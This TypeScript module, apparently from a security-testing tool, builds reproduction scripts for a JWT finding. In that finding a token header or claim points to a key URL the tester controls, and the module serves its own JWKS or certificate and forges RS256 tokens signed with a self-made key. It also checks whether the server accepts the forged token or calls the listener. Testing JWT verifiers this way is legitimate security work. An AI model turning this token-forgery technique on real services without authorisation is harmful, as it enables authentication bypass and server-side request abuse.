/** The script of a finding with an address of ours in a token: it listens itself, and signs with a key that it makes. */
import type { BaseContext } from '../attack.ts'
import type { Say, Written } from '../reproduction/steps.ts'
import type { Json } from './forge-token.ts'
import { listenLines } from './listener-script.ts'

/** Where in the token an address stands. */
export interface UrlPlace {
  readonly name: string
  readonly header?: Json
  readonly claims?: Json
}

const served = {
  keys: "JSON.stringify({ keys: [{ ...own.publicKey.export({ format: 'jwk' }), kid: 'own', alg: 'RS256', use: 'sig' }] })",
  certificate:
    "['-----BEGIN CERTIFICATE-----', certificateOf(own).toString('base64'), '-----END CERTIFICATE-----', ''].join('\\n')",
}

/** `ours`: where our own listener is, in the place of which the script has `here`. */
export function keyUrlScript({ target }: BaseContext, ours: string, answer: keyof typeof served = 'keys') {
  function listening(say: Say): string {
    const { learn } = say
    const host = (url: string) => url.replace(/^\w+:\/\//, '')
    const lines = listenLines(say, target.profile.listener, served[answer])
    learn(ours, 'here')
    learn(encodeURIComponent(ours), 'encodeURIComponent(here)')
    learn(host(ours), "here.split('//')[1]")
    learn(host(target.url), "url.split('//')[1]")
    return [
      lines,
      "const ownToken = (head, body) => join(part({ ...header(TOKEN_B), alg: 'RS256', kid: 'own', ...head }), part({ ...claims(TOKEN_B), ...body }), signed(own.privateKey))",
    ].join('\n')
  }

  return {
    /** The token that is let in. */
    lets:
      ({ header, claims }: UrlPlace): Written =>
      (say) =>
        `${listening(say)}\nconst forged = ownToken(${say.value(header)}, ${say.value(claims)})`,
    /** None is let in, and one of them makes the server call. */
    calls:
      (places: readonly UrlPlace[]): Written =>
      (say) => {
        const before = listening(say)
        const list = places.map(({ header, claims }) => `  [${say.value(header)}, ${say.value(claims)}],`)
        say.learn('the token', 'ownToken(head, body)')
        return [
          before,
          'for (const [head, body] of [',
          ...list,
          ']) {',
          `  if (calls.length === 0) await connect(${say.door({ token: 'the token' })}, undefined)`,
          '}',
          "await until(() => calls.length > 0, 'the server calls nobody')",
        ].join('\n')
      },
  }
}
